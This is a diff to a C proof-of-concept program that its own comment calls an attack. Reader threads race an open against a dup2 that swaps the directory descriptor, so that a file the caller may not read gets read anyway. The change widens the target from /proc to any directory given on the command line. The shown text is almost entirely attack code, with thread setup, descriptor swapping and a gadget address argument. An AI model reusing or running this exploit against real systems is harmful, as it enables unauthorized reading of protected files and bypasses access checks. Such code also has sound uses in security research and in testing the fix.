@@ -1,7 +1,7 @@
 /* An attack: threads that are in the middle of an open by a descriptor of their own
-   when that becomes one of procfs. The arguments are the address of the
-   instruction that may make such an open, that of an open_how, and the name of a file
-   below /proc that must not be read: prints "no", or what it has read. */
+   when that becomes one of a directory from which files must not be read so. The arguments are the address of the
+   instruction that may make such an open, that of an open_how, the directory, and the name of a file
+   below it: prints "no", or what it has read. */
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <pthread.h>
@@ -58,14 +58,14 @@ int main(int argc, char **argv)
 	char b[64] = "";
 	pthread_t t[THREADS];
 	gadget = strtoul(argv[1], 0, 0), how = strtoul(argv[2], 0, 0);
-	int f = open("/path", O_RDWR | O_CREAT, 0600);
+	int f = open("/path", O_RDWR | O_CREAT | O_TRUNC, 0600);
 	memset(b, 0, sizeof b);
-	if (ftruncate(f, 4096) || pwrite(f, argv[3], strlen(argv[3]), 0) < 0 || dup2(open("/", O_RDONLY | O_DIRECTORY), DIR) != DIR)
+	if (ftruncate(f, 4096) || pwrite(f, argv[4], strlen(argv[4]), 0) < 0 || dup2(open("/", O_RDONLY | O_DIRECTORY), DIR) != DIR)
 		return 1;
 	for (int i = 0; i < THREADS; i++)
 		pthread_create(&t[i], 0, reader, &f);
 	usleep(20000);
-	int proc = open("/proc", O_RDONLY | O_DIRECTORY);
+	int proc = open(argv[3], O_RDONLY | O_DIRECTORY);
 	dup2(proc, DIR);
 	usleep(20000);
 	stop = 1;
